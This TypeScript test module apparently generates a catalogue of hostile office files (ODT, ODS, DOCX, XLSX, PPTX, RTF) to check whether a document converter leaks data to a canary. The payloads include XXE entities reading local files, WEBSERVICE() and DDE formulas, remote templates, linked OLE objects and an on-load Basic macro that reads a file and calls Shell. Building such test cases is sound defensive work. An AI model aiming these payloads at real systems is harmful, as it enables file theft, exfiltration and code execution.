import { writeDocx } from '../../../samples/write-office.ts';
import { writeZip } from '../../../samples/write-zip.ts';
import { writeOdf } from '../write-odf.ts';
import { writePptx } from '../write-pptx.ts';
import { writeXlsx } from '../write-xlsx.ts';

/** What a document names: an address of the canary, and a file that holds its name. */
interface Target {
  address: string;
  file: string;
}

export interface OfficeAttack {
  label: string;
  extension: string;
  make: (target: Target) => Buffer;
}

const attack = (label: string, extension: string, make: OfficeAttack['make']): OfficeAttack => ({
  ...{ label, extension, make },
});
const LINK = 'xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"';
const link = (href: string) => `xlink:href="${href}" ${LINK}`;
const frame = (content: string) =>
  `<text:p>before<draw:frame svg:width="5cm" svg:height="5cm" text:anchor-type="paragraph">${content}</draw:frame></text:p>`;
const odt = (label: string, body: (target: Target) => string) =>
  attack(label, 'odt', (target) => writeOdf({ kind: 'text', body: body(target) }));
const cell = (formula: string) =>
  `<table:table table:name="A"><table:table-row><table:table-cell table:formula="${formula}" office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row></table:table>`;
const ods = (label: string, body: (target: Target) => string) =>
  attack(label, 'ods', (target) => writeOdf({ kind: 'spreadsheet', body: body(target) }));

/** OpenDocument files that name addresses, files and variables, and run macros. */
const OPEN_DOCUMENT: readonly OfficeAttack[] = [
  odt('an image elsewhere', ({ address }) => frame(`<draw:image ${link(`${address}/image.png`)}/>`)),
  odt('an image in a file', ({ file }) => frame(`<draw:image ${link(`file://${file}`)}/>`)),
  odt('an object elsewhere', ({ address }) => frame(`<draw:object ${link(`${address}/o.ods`)}/>`)),
  odt('an OLE object elsewhere', ({ address }) => frame(`<draw:object-ole ${link(`${address}/o.doc`)}/>`)),
  odt('a frame elsewhere', ({ address }) => frame(`<draw:floating-frame ${link(`${address}/f.html`)}/>`)),
  odt('a frame of a file', ({ file }) => frame(`<draw:floating-frame ${link(`file://${file}`)}/>`)),
  odt('a plug-in elsewhere', ({ address }) =>
    frame(`<draw:plugin ${link(`${address}/p.mp4`)} draw:mime-type="video/mp4"/>`),
  ),
  odt('an applet elsewhere', ({ address }) =>
    frame(`<draw:applet ${link(`${address}/`)} draw:code="x.class"/>`),
  ),
  odt('the environment in an address', ({ address }) =>
    frame(`<draw:image ${link(`vnd.sun.star.expand:${address}/$CANARY`)}/>`),
  ),
  odt('the environment in a section', () => section('vnd.sun.star.expand:$CANARY', '')),
  odt('a section that is a file of ours', ({ file }) => section(`file://${file}`, 'text:filter-name="Text"')),
  odt('a section elsewhere', ({ address }) => section(`${address}/s.odt`, '')),
  odt(
    'a section by DDE',
    ({ file }) =>
      `<text:section text:name="s"><office:dde-source office:dde-application="soffice" office:dde-topic="${file}" office:dde-item="x" office:automatic-update="true"/><text:p>old</text:p></text:section>`,
  ),
  odt(
    'a script elsewhere',
    ({ address }) =>
      `<text:p><text:script script:language="JavaScript" ${link(`${address}/x.js`)}/>x</text:p>`,
  ),
  attack('a macro that runs on load', 'odt', ({ address, file }) => macro(address, file)),
  ods('WEBSERVICE()', ({ address }) => cell(`of:=WEBSERVICE(&quot;${address}/service&quot;)`)),
  ods('WEBSERVICE() of a file', ({ file }) => cell(`of:=WEBSERVICE(&quot;file://${file}&quot;)`)),
  ods('a cell of another file', ({ file }) => cell(`of:=['file://${file}'#$'A'.A1]`)),
  ods('a cell of a sheet elsewhere', ({ address }) => cell(`of:=['${address}/x.ods'#$'A'.A1]`)),
  ods('DDE()', ({ file }) => cell(`of:=DDE(&quot;soffice&quot;;&quot;${file}&quot;;&quot;A1&quot;)`)),
  ods(
    'a linked sheet',
    ({ address }) =>
      `<table:table table:name="A"><table:table-source xlink:href="${address}/t.ods" xlink:type="simple" table:table-name="A" table:refresh-delay="PT1S"/><table:table-row><table:table-cell/></table:table-row></table:table>`,
  ),
  ods(
    'a linked range of cells',
    ({ file }) =>
      `<table:table table:name="A"><table:table-row><table:table-cell><table:cell-range-source table:name="A1" xlink:href="file://${file}" xlink:type="simple" xlink:actuate="onRequest" table:filter-name="Text - txt - csv (StarCalc)" table:last-column-spanned="1" table:last-row-spanned="1" table:refresh-delay="PT1S"/></table:table-cell></table:table-row></table:table>`,
  ),
];

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const external = (type: string, target: string) =>
  `<Relationship Id="rId9" Type="${OFFICE}/${type}" Target="${target}" TargetMode="External"/>`;
const docx = (
  label: string,
  relationship: (target: Target) => string,
  body: string | ((target: Target) => string),
) =>
  attack(label, 'docx', (target) =>
    writeDocx({
      ...{ title: 'T', paragraphs: ['p'], relationships: relationship(target) },
      body: typeof body === 'string' ? body : body(target),
    }),
  );
const field = (code: string) =>
  `<w:p><w:fldSimple w:instr="${code.replaceAll('"', '&quot;')}" w:dirty="true"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`;
const PICTURE =
  '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="p"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rId9"/></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>';
const OLE =
  '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Word.Document.12" ShapeID="s" DrawAspect="Content" r:id="rId9" UpdateMode="Always"/></w:object></w:r></w:p>';

/** Microsoft's formats. */
const MICROSOFT: readonly OfficeAttack[] = [
  docx('a linked image', ({ address }) => external('image', `${address}/image.png`), PICTURE),
  docx('a linked image in a file', ({ file }) => external('image', `file://${file}`), PICTURE),
  docx('a linked OLE object', ({ address }) => external('oleObject', `${address}/o.docx`), OLE),
  docx(
    'a part that is another document',
    ({ address }) => external('aFChunk', `${address}/x.html`),
    '<w:altChunk r:id="rId9"/>',
  ),
  docx(
    'a subdocument',
    ({ address }) => external('subDocument', `${address}/x.docx`),
    '<w:subDoc r:id="rId9"/>',
  ),
  docx(
    'a field INCLUDEPICTURE',
    () => '',
    ({ address }) => field(`INCLUDEPICTURE "${address}/p.png" \\d`),
  ),
  docx(
    'a field INCLUDETEXT',
    () => '',
    ({ file }) => field(`INCLUDETEXT "file://${file}"`),
  ),
  docx(
    'a field DDEAUTO',
    () => '',
    ({ file }) => field(`DDEAUTO soffice "${file}" x`),
  ),
  attack('a template elsewhere', 'docx', ({ address }) =>
    writeDocx({
      ...{ title: 'T', paragraphs: ['p'] },
      relationships: `<Relationship Id="rId8" Type="${OFFICE}/settings" Target="settings.xml"/>`,
      entries: [
        {
          name: 'word/settings.xml',
          data: `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${OFFICE}"><w:attachedTemplate r:id="rId9"/><w:linkStyles/></w:settings>`,
        },
        {
          name: 'word/_rels/settings.xml.rels',
          data: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${external('attachedTemplate', `${address}/t.dotm`)}</Relationships>`,
        },
      ],
    }),
  ),
  attack('a formula WEBSERVICE()', 'xlsx', ({ address }) =>
    writeXlsx(
      `<sheetData><row r="1"><c r="A1" t="str"><f>_xlfn.WEBSERVICE("${address}/s")</f><v>x</v></c></row></sheetData>`,
    ),
  ),
  attack('a formula that refers to a file', 'xlsx', ({ file }) =>
    writeXlsx(
      `<sheetData><row r="1"><c r="A1" t="str"><f>'file://${file}'#$A.A1</f><v>x</v></c></row></sheetData>`,
    ),
  ),
  attack('a formula by DDE', 'xlsx', ({ file }) =>
    writeXlsx(
      `<sheetData><row r="1"><c r="A1" t="str"><f>DDE("soffice","${file}","A1")</f><v>x</v></c></row></sheetData>`,
    ),
  ),
  attack('a slide whose text is an entity', 'pptx', ({ file }) =>
    writePptx('&x;', `<!DOCTYPE x [<!ENTITY x SYSTEM "file://${file}">]>`),
  ),
  attack('an entity elsewhere', 'odt', ({ address, file }) =>
    writeZip([
      { name: 'mimetype', data: 'application/vnd.oasis.opendocument.text', stored: true },
      {
        name: 'content.xml',
        data: `<!DOCTYPE x [<!ENTITY % e SYSTEM "${address}/e.dtd">%e;<!ENTITY x SYSTEM "file://${file}">]><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.3"><office:body><office:text><text:p>&x;</text:p></office:text></office:body></office:document-content>`,
      },
      {
        name: 'META-INF/manifest.xml',
        data: '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>',
      },
    ]),
  ),
];

const rtf = (label: string, body: (target: Target) => string) =>
  attack(label, 'rtf', (target) => Buffer.from(`{\\rtf1\\ansi ${body(target)} text}`));
const rtfField = (code: string) => `{\\field{\\*\\fldinst ${code}}{\\fldrslt x}}`;

const RICH_TEXT: readonly OfficeAttack[] = [
  rtf('a field INCLUDEPICTURE', ({ address }) => rtfField(`INCLUDEPICTURE "${address}/p.png" \\\\d`)),
  rtf('a field INCLUDETEXT', ({ file }) => rtfField(`INCLUDETEXT "file://${file}"`)),
  rtf('a field DDEAUTO', ({ file }) => rtfField(`DDEAUTO soffice "${file}" x`)),
  rtf('a template elsewhere', ({ address }) => `{\\*\\template ${address}/t.dotm}`),
  rtf(
    'a linked object that updates itself',
    ({ address }) =>
      `{\\object\\objautlink\\objupdate\\rsltpict{\\*\\objclass Word.Document.8}{\\*\\objname ${address}/o.doc}{\\*\\objdata 0105000001000000}{\\result x}}`,
  ),
  attack('HTML that calls itself rich text', 'rtf', ({ address }) =>
    Buffer.from(
      `<html><body><img src="${address}/image.png"><iframe src="${address}/f"></iframe></body></html>`,
    ),
  ),
  attack('HTML that calls itself a Word document', 'docx', ({ address }) =>
    Buffer.from(`<html><body><img src="${address}/image.png"></body></html>`),
  ),
];

export const OFFICE_ATTACKS: readonly OfficeAttack[] = [...OPEN_DOCUMENT, ...MICROSOFT, ...RICH_TEXT];

function section(href: string, more: string): string {
  return `<text:section text:name="s"><text:section-source xlink:href="${href}" xlink:type="simple" ${more}/><text:p>old</text:p></text:section>`;
}

/** A text whose Basic macro, bound to its loading, reads a file and opens an address. */
function macro(address: string, file: string): Buffer {
  const library = 'xmlns:library="http://openoffice.org/2000/library" library:name="Standard"';
  const basic = `Sub Main\nDim s\nOpen "${file}" For Input As #1\nLine Input #1, s\nThisDocument.Text.String = s &amp; Environ("CANARY")\nStarDesktop.loadComponentFromURL("${address}/macro", "_blank", 0, Array())\nShell("touch ${file}")\nEnd Sub`;
  return writeOdf({
    kind: 'text',
    body: '<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"/></office:event-listeners><text:p>x</text:p>',
    entries: [
      {
        name: 'Basic/script-lc.xml',
        data: `<library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/></library:libraries>`,
      },
      {
        name: 'Basic/Standard/script-lb.xml',
        data: `<library:library ${library}><library:element library:name="M"/></library:library>`,
      },
      {
        name: 'Basic/Standard/M.xml',
        data: `<script:module xmlns:script="http://openoffice.org/2000/script" script:name="M" script:language="StarBasic">${basic}</script:module>`,
      },
    ],
  });
}
